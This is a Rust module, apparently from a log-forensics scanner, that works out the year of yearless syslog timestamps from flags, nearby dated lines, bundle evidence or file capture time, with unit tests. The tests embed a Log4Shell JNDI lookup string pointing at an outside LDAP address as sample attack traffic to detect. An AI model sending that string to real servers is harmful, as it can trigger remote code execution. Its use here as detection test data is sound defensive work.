//! The year of an RFC 3164 syslog time (`Nov 27 14:00:00`, which carries none), and which
//! evidence gave it: `--syslog-year`, else the nearest dated record of the same file (the
//! year that puts the time closest to it, so a Dec -> Jan turn moves to the next year), else
//! the newest time of the bundle's other evidence, else the file's capture time (its mtime or
//! its archive member's); from either of the last two the time may not lie after the
//! reference, so a month/day after it is in the year before. Never the workstation clock.

use serde::Serialize;

use crate::model::Timestamp;

/// Which evidence gave a syslog time its year.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Serialize)]
#[serde(rename_all = "kebab-case")]
pub enum YearBasis {
    /// `--syslog-year`.
    Given,
    /// The nearest dated record of the same log.
    SameFile,
    /// The newest time in the bundle's other evidence (other logs, container records).
    Bundle,
    /// The log file's capture time (file mtime, archive member mtime).
    CaptureTime,
}

impl YearBasis {
    /// In words, for notes and the text report.
    pub fn describe(&self) -> &'static str {
        match self {
            YearBasis::Given => "year given with --syslog-year",
            YearBasis::SameFile => "year from the nearest dated line of the same log",
            YearBasis::Bundle => "year from the newest time in the bundle's other evidence",
            YearBasis::CaptureTime => "year from the log file's capture time (mtime)",
        }
    }
}

/// A syslog time without its year.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct SyslogTime {
    pub(crate) month: u8,
    pub(crate) day: u8,
    pub(crate) hour: u8,
    pub(crate) min: u8,
    pub(crate) sec: u8,
}

fn year_of(t: Timestamp) -> Option<i32> {
    t.to_iso().get(..4)?.parse().ok()
}

impl SyslogTime {
    /// The time in `year` (None for Feb 29 of a common year or an impossible date).
    pub(crate) fn in_year(&self, year: i32) -> Option<Timestamp> {
        Timestamp::from_civil(year, self.month, self.day, self.hour, self.min, self.sec, 0, 0)
    }

    /// In the year (of the reference's, the one before or after) that puts it nearest to
    /// `reference`: a dated line of the same log, before or after this one.
    pub(crate) fn nearest(&self, reference: Timestamp) -> Option<Timestamp> {
        let y = year_of(reference)?;
        let r = reference.unix_secs();
        [y, y - 1, y + 1]
            .into_iter()
            .filter_map(|y| self.in_year(y))
            .min_by_key(|t| (t.unix_secs() - r).unsigned_abs())
    }

    /// In the latest year that does not put it after `reference` (a capture time, or the newest
    /// time of the evidence: what was logged was logged before it).
    pub(crate) fn not_after(&self, reference: Timestamp) -> Option<Timestamp> {
        let y = year_of(reference)?;
        // A day's slack: times without a zone are read as UTC, a capture's may be local.
        let limit = reference.plus_secs(86_400);
        [y + 1, y, y - 1, y - 2, y - 3, y - 4]
            .into_iter()
            .filter_map(|y| self.in_year(y))
            .find(|t| *t <= limit)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::logscan::time::{line_syslog, line_time};

    fn ts(s: &str) -> Timestamp {
        Timestamp::parse_rfc3339(s).unwrap()
    }

    fn st(line: &str) -> SyslogTime {
        line_syslog(line.as_bytes()).unwrap()
    }

    #[test]
    fn same_file_takes_the_nearest_year_across_a_new_year() {
        // A dated line of 2025-12-31 before it: Jan 1 is in 2026, Dec 30 in 2025.
        let before = ts("2025-12-31T23:59:00Z");
        assert_eq!(st("Jan  1 00:00:05 host cron[1]: x").nearest(before), Some(ts("2026-01-01T00:00:05Z")));
        assert_eq!(st("Dec 30 10:00:00 host x").nearest(before), Some(ts("2025-12-30T10:00:00Z")));
        // A dated line after it (the file's first dated line comes later): Dec is the year before.
        let after = ts("2026-01-02T08:00:00Z");
        assert_eq!(st("Dec 31 23:00:00 host x").nearest(after), Some(ts("2025-12-31T23:00:00Z")));
        assert_eq!(
            st("Nov 27 14:00:00 host x").nearest(ts("2026-11-27T15:00:00Z")),
            Some(ts("2026-11-27T14:00:00Z"))
        );
    }

    #[test]
    fn capture_time_rolls_back_when_the_day_lies_after_it() {
        let capture = ts("2026-03-05T12:00:00Z");
        assert_eq!(st("Mar  5 11:00:00 host x").not_after(capture), Some(ts("2026-03-05T11:00:00Z")));
        assert_eq!(st("Nov 27 14:00:00 host x").not_after(capture), Some(ts("2025-11-27T14:00:00Z")));
        // Feb 29 goes back to the last leap year.
        assert_eq!(st("Feb 29 01:00:00 host x").not_after(capture), Some(ts("2024-02-29T01:00:00Z")));
        // Within the day's slack it stays in the capture's year.
        assert_eq!(st("Mar  5 20:00:00 host x").not_after(capture), Some(ts("2026-03-05T20:00:00Z")));
    }

    use crate::evidence::ArtifactKind;
    use crate::logscan::engine::Engine;
    use crate::logscan::framing::text::Text;
    use crate::logscan::records::ScanConfig;
    use crate::logscan::stream::{scan_stream, SourceScan};
    use crate::model::Locator;

    /// The (time, basis) of every hit of `log` read as text with `cfg`, in order.
    fn hits(log: &str, cfg: &ScanConfig) -> Vec<(Option<String>, Option<YearBasis>)> {
        let engine = Engine::builtin().unwrap();
        let scan = scan_stream(log.as_bytes(), &Text, &engine, cfg, &Locator::artifact("auth.log"), 0);
        let mut v: Vec<_> = scan
            .hits
            .iter()
            .map(|h| (h.locator.line, h.time.map(|t| t.to_iso_seconds()), h.time_basis))
            .collect();
        v.sort();
        v.dedup_by_key(|h| h.0);
        v.into_iter().map(|(_, t, b)| (t, b)).collect()
    }

    const JNDI: &str = "GET /?q=${jndi:ldap://203.0.113.9:1389/a}";

    #[test]
    fn a_stream_dates_syslog_records_from_its_dated_lines_before_and_after() {
        // A dated line before: Dec 31 is that year, the Jan 1 after it the next.
        let log = format!(
            "2025-12-31T23:00:00Z host app: started\nDec 31 23:59:59 host app: {JNDI}\nJan  1 00:00:05 host app: {JNDI}\n"
        );
        let cfg = ScanConfig::default();
        assert_eq!(
            hits(&log, &cfg),
            [
                (Some("2025-12-31T23:59:59Z".into()), Some(YearBasis::SameFile)),
                (Some("2026-01-01T00:00:05Z".into()), Some(YearBasis::SameFile))
            ]
        );
        // Only a dated line after (not itself a hit): the nearest year to it.
        let log = format!("Dec 31 23:59:59 host app: {JNDI}\n[02/Jan/2026:08:00:00 +0000] backup done\n");
        assert_eq!(hits(&log, &cfg), [(Some("2025-12-31T23:59:59Z".into()), Some(YearBasis::SameFile))]);
        // --syslog-year wins over the dated lines.
        let given = ScanConfig { syslog_year: Some(2019), ..ScanConfig::default() };
        let log = format!("2025-12-31T23:00:00Z host app: started\nDec 31 23:59:59 host app: {JNDI}\n");
        assert_eq!(hits(&log, &given), [(Some("2019-12-31T23:59:59Z".into()), Some(YearBasis::Given))]);
        // Nothing dated: left for the bundle.
        assert_eq!(hits(&format!("Nov 27 14:00:00 host app: {JNDI}\n"), &cfg), [(None, None)]);
    }

    fn source(log: &str) -> SourceScan {
        let engine = Engine::builtin().unwrap();
        let loc = Locator::artifact("var/log/auth.log");
        let scan = scan_stream(log.as_bytes(), &Text, &engine, &ScanConfig::default(), &loc, 0);
        SourceScan { locator: loc, format: &Text, scan }
    }

    #[test]
    fn the_bundle_then_the_capture_time_date_what_the_file_cannot() {
        let log = format!("Nov 27 14:00:00 host app: {JNDI}\nMar  1 09:00:00 host app: {JNDI}\n");
        let mut art = crate::fuzzing::artifact("var/log/auth.log", ArtifactKind::TextLog, log.as_bytes());
        art.mtime = Some(ts("2027-01-10T00:00:00Z"));
        let times = |s: &SourceScan| {
            s.scan.hits.iter().map(|h| (h.time.map(|t| t.to_iso_seconds()), h.time_basis)).collect::<Vec<_>>()
        };
        // The bundle's newest time (2026-03-05) wins over the capture time; Nov is the year before it.
        let mut sources = vec![source(&log)];
        crate::logscan::date_syslog_years(&mut sources, &[&art], Some(ts("2026-03-05T12:00:00Z")));
        let got = times(&sources[0]);
        assert!(got.contains(&(Some("2025-11-27T14:00:00Z".into()), Some(YearBasis::Bundle))), "{got:?}");
        assert!(got.contains(&(Some("2026-03-01T09:00:00Z".into()), Some(YearBasis::Bundle))), "{got:?}");
        assert!(sources[0].scan.diagnostics.iter().any(|d| d.message.contains("bundle's other evidence")));
        // Nothing else in the bundle: the file's capture time, rolled back past its date.
        let mut sources = vec![source(&log)];
        crate::logscan::date_syslog_years(&mut sources, &[&art], None);
        let got = times(&sources[0]);
        assert!(
            got.contains(&(Some("2026-11-27T14:00:00Z".into()), Some(YearBasis::CaptureTime))),
            "{got:?}"
        );
        assert!(
            got.contains(&(Some("2026-03-01T09:00:00Z".into()), Some(YearBasis::CaptureTime))),
            "{got:?}"
        );
        // No capture time either: unknown, and said so.
        art.mtime = None;
        let mut sources = vec![source(&log)];
        crate::logscan::date_syslog_years(&mut sources, &[&art], None);
        assert!(sources[0].scan.hits.iter().all(|h| h.time.is_none()));
        assert!(sources[0].scan.diagnostics.iter().any(|d| d.message.contains("their time is unknown")));
    }

    #[test]
    fn syslog_lines_are_told_from_dated_ones() {
        assert!(line_syslog(b"<34>Nov  7 14:00:00 host x").is_some());
        assert!(line_syslog(b"2026-11-27T14:00:00Z x").is_none());
        assert!(line_time(b"Nov 27 14:00:00 host x", None).is_none());
        assert!(line_syslog(b"Nov 27, 2026 2:00:00 PM org.x").is_none());
        assert_eq!(YearBasis::SameFile.describe(), "year from the nearest dated line of the same log");
    }
}
